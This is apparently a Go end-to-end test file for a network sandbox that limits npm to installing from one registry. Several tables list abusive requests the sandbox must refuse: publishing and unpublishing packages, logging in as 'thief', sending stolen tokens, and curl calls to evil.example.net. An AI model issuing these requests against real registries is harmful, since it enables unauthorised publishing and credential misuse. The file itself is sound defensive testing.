package e2e

import (
	"fmt"
	"os"
	"slices"
	"strings"
	"testing"
)

const usesNPM = `version = 1

use "npm" {
  registry = "https://npm.example.com"
}
`

// wantInstalled looks for packages in the work folder.
func wantInstalled(t *testing.T, w *world, packages []npmPackage) {
	t.Helper()
	for _, p := range packages {
		if _, err := os.Stat(w.at("work/node_modules/" + p.name + "/index.js")); err != nil {
			t.Error(err)
		}
	}
}

// TestInstall is what scupper is for: npm ci, unmodified, under the preset.
func TestInstall(t *testing.T) {
	packages := fiftyPackages(t)
	for _, u := range users(t) {
		for name, lockfile := range map[string]string{"any package": "", "only the lockfile's": "\n  lockfile = \"work/package-lock.json\""} {
			t.Run(u.name+", "+name, func(t *testing.T) {
				w := newWorld(t, u)
				startRegistry(w, packages)
				project(w, packages)
				w.policy(strings.Replace(usesNPM, "\n}", lockfile+"\n}", 1))
				a := w.control(command("npm", "ci"))
				a.wantAllowed(len(a.received)).wantExplained()
				wantInstalled(t, w, packages)
				got := map[string]bool{}
				for _, e := range a.received {
					got[e.URI] = true
				}
				for _, p := range packages {
					if uri := strings.TrimPrefix(p.url(), "https://"+registryHost); !got[uri] {
						t.Errorf("%s was not asked for: %v", uri, a.received)
					}
				}
				// npm writes %2f; what is sent is rendered anew.
				w.control(command("npm", "view", "@team-1/part-01", "version")).wantStdout("1.0.0").farSide("GET https://npm.example.com/@team-1%2Fpart-01").wantAllowed(1)
			})
		}
	}
}

func TestInstallWithoutLockfile(t *testing.T) {
	packages := fiftyPackages(t)[:4]
	w := newWorld(t, ordinaryUser(t))
	startRegistry(w, packages)
	w.policy(usesNPM)
	w.work("package.json", `{"name":"app","version":"1.0.0"}`)
	a := w.control(command("npm", "install", "lib-00", "@team-1/part-01"))
	a.wantAllowed(len(a.received)).wantExplained()
	wantInstalled(t, w, packages[:2])
	t.Run("a package that the lockfile does not name", func(t *testing.T) {
		w.policy(strings.Replace(usesNPM, "\n}", "\n  lockfile = \"work/package-lock.json\"\n}", 1))
		w.control(command("npm", "view", "lib-00", "version")).wantStdout("1.0.0")
		w.attack(curl("https://npm.example.com/lib-02")).refused(403, "path_not_granted")
		w.attack(command("npm", "install", "lib-02")).wantFailure().wantStderr("403").wantDenials("http path_not_granted GET npm.example.com /lib-02").farSideNothing()
	})
}

// registryNeighbours are requests to the registry that an install does not make.
var registryNeighbours = []struct {
	name         string
	method, path string
	args         []string
	reason       string
}{
	{"publish", "PUT", "/stolen", []string{"-H", "Content-Type: application/json", "-d", publication}, "method_not_granted"},
	{"publish a scoped package", "PUT", "/@team-1%2fstolen", []string{"-d", publication}, "method_not_granted"},
	{"login", "PUT", "/-/user/org.couchdb.user:thief", []string{"-H", "Content-Type: application/json", "-d", `{"name":"thief","password":"secret"}`}, "path_not_granted"},
	{"login in a browser", "POST", "/-/v1/login", []string{"-d", "{}"}, "path_not_granted"},
	{"whoami", "GET", "/-/whoami", nil, "path_not_granted"},
	{"search", "GET", "/-/v1/search?text=c2VjcmV0", nil, "path_not_granted"},
	{"audit upload", "POST", "/-/npm/v1/security/advisories/bulk", []string{"-d", `{"secret":["1.0.0"]}`}, "path_not_granted"},
	{"dist-tag", "PUT", "/-/package/lib-00/dist-tags/evil", []string{"-d", `"1.0.0"`}, "path_not_granted"},
	{"tokens", "GET", "/-/npm/v1/tokens", nil, "path_not_granted"},
	{"unpublish", "DELETE", "/lib-00/-/lib-00-1.0.0.tgz/-rev/1-0", nil, "path_not_granted"},
	{"another method", "DELETE", "/lib-00", nil, "method_not_granted"},
	{"a method of its own", "SECRET", "/lib-00", nil, "method_not_granted"},
	{"a body with GET", "GET", "/lib-00", []string{"-d", "secret"}, "body_not_granted"},
	{"a query", "GET", "/lib-00?page=1", nil, "query_not_granted"},
	{"a credential", "GET", "/lib-00", []string{"-H", "Authorization: Bearer stolen"}, "foreign_credential"},
}

// TestRegistryNeighbours asks the registry for what is not granted, with curl.
func TestRegistryNeighbours(t *testing.T) {
	w := newWorld(t, ordinaryUser(t))
	w.policy(usesNPM)
	w.control(curl("https://npm.example.com/lib-00")).wantStatus(200).farSide("GET https://npm.example.com/lib-00").wantAllowed(1)
	for _, tc := range registryNeighbours {
		t.Run(tc.name, func(t *testing.T) {
			for _, front := range [][]string{nil, explicitly("--http1.1")} {
				args := slices.Concat(front, tc.args, []string{"-X", tc.method, "-D", "head", "https://npm.example.com" + tc.path})
				a := w.attack(curl(args...)).refused(403, tc.reason)
				head, err := os.ReadFile(w.at("work/head"))
				if err != nil {
					t.Fatal(err)
				}
				if !strings.Contains(strings.ToLower(string(head)), "content-type: application/problem+json") {
					a.errorf("the answer is no problem document:\n%s", head)
				}
			}
		})
	}
	t.Run("another host", func(t *testing.T) {
		w.attack(curl(explicitly("http://evil.example.net/lib-00")...)).refused(403, "no_grant")
		w.attack(curl(explicitly("https://evil.example.net/lib-00")...)).wantExit(56).wantStderr("403").wantDenials("connect no_grant evil.example.net:443").farSideNothing()
		w.attack(curl("https://evil.example.net/lib-00")).wantExit(6).wantDenials("name no_grant evil.example.net").farSideNothing()
	})
}

// perhaps adds to the wanted denials those of some that are in the log.
func (a *attempt) perhaps(want *[]string, some ...string) *attempt {
	for _, d := range a.log.denials() {
		if slices.Contains(some, d.denial()) {
			*want = append(*want, d.denial())
		}
	}
	return a
}

// TestNPMCommands has npm itself ask for what is not granted.
func TestNPMCommands(t *testing.T) {
	w := newWorld(t, ordinaryUser(t))
	packages := fiftyPackages(t)[:2]
	startRegistry(w, packages)
	project(w, packages)
	w.policy(usesNPM)
	w.control(command("npm", "ci"))
	http := func(reason, methodAndPath string) string {
		method, path, _ := strings.Cut(methodAndPath, " ")
		return fmt.Sprintf("http %s %s npm.example.com %s", reason, method, path)
	}
	// Newer releases of npm look before they publish, older ones ask for an audit twice.
	some := []string{http("foreign_credential", "GET /app"), http("path_not_granted", "POST /-/npm/v1/security/audits/quick")}
	const token = "--//npm.example.com/:_authToken=stolen"
	for _, tc := range []struct {
		command string
		denials []string
	}{
		{"publish " + token, []string{http("method_not_granted", "PUT /app")}},
		{"search secret", []string{http("path_not_granted", "GET /-/v1/search")}},
		{"audit", []string{http("path_not_granted", "POST /-/npm/v1/security/advisories/bulk")}},
		{"whoami " + token, []string{http("path_not_granted", "GET /-/whoami")}},
		{"dist-tag add lib-00@1.0.0 evil " + token, []string{http("path_not_granted", "GET /-/package/lib-00/dist-tags")}},
		{"unpublish lib-00@1.0.0 --force " + token, []string{http("foreign_credential", "GET /lib-00")}},
		{"view lib-00 " + token, []string{http("foreign_credential", "GET /lib-00")}},
	} {
		t.Run(tc.command, func(t *testing.T) {
			a := w.attack(command(append([]string{"npm"}, strings.Fields(tc.command)...)...)).wantFailure().wantStderr("403").perhaps(&tc.denials, some...)
			a.wantDenials(tc.denials...).farSideNothing()
		})
	}
	t.Run("login", func(t *testing.T) {
		// Refused in the browser's way, npm asks for a name and a password, and there is nobody to give one.
		w.attack(command("npm", "login")).wantFailure().wantDenials(http("path_not_granted", "POST /-/v1/login")).farSideNothing()
	})
	t.Run("install with an audit upload", func(t *testing.T) {
		denials := []string{http("path_not_granted", "POST /-/npm/v1/security/advisories/bulk")}
		a := w.attack(shell("rm -rf node_modules && npm ci --audit")).wantExit(0).perhaps(&denials, some...)
		a.wantDenials(denials...)
		a.looked[farSide] = true
		for _, e := range a.received {
			if e.Method != "GET" || strings.HasPrefix(e.URI, "/-/") {
				a.errorf("the far side received %s %s", e.Method, e.URI)
			}
		}
		wantInstalled(t, w, packages)
	})
}
